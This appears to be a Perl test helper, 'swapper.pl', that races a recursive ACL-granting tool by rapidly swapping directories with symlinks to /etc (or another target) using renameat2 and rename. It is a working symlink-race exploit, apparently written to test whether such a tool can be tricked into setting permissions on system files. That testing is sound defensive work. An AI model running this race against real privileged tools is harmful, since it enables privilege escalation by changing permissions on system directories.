#!/usr/bin/perl
# SPDX-License-Identifier: ISC
# swapper.pl DIR SECONDS [TO]: the attack on a recursive ACL grant, run as the
# target inside its own tree. In DIR, for SECONDS (or until killed), it
# keeps swapping directories with symlinks to /etc (or TO):
#   - real/ <-> link -> /etc, and deep/real/ <-> deep/link, with
#     renameat2(RENAME_EXCHANGE), so that either name is at every moment a
#     directory or a symlink;
#   - plain/: renamed away, a symlink to /etc put in its place with plain
#     rename(), then the directory put back.
# A grant that looks a name up twice (stat, then set by path) sooner or
# later sets its ACL through the symlink, on /etc.
use strict;
use warnings;
use POSIX ();

my ($dir, $secs, $to) = @ARGV;
die "usage: swapper.pl DIR SECONDS [TO]\n" unless defined $secs;
$to //= "/etc";
chdir $dir or die "swapper: $dir: $!\n";
my %nr = (x86_64 => 316, aarch64 => 276, i686 => 353, i386 => 353);
my $renameat2 = $nr{(POSIX::uname())[4]} or die "swapper: no renameat2 number for this machine\n";
my $AT_FDCWD = -100;
my $RENAME_EXCHANGE = 2;
my ($real, $link, $dreal, $dlink) = ("real", "link", "deep/real", "deep/link");
if (syscall($renameat2, $AT_FDCWD, $real, $AT_FDCWD, $link, $RENAME_EXCHANGE) != 0) {
	die "swapper: renameat2: $!\n";
}
my $end = time + $secs;
my $n = 0;
while (time < $end) {
	for (1 .. 200) {
		syscall($renameat2, $AT_FDCWD, $real, $AT_FDCWD, $link, $RENAME_EXCHANGE);
		syscall($renameat2, $AT_FDCWD, $dreal, $AT_FDCWD, $dlink, $RENAME_EXCHANGE);
		if (rename "plain", "plain.away") {
			symlink $to, "plain.new";
			rename "plain.new", "plain";
			unlink "plain";
			rename "plain.away", "plain";
		}
		$n++;
	}
}
print "# swapper: $n rounds\n";
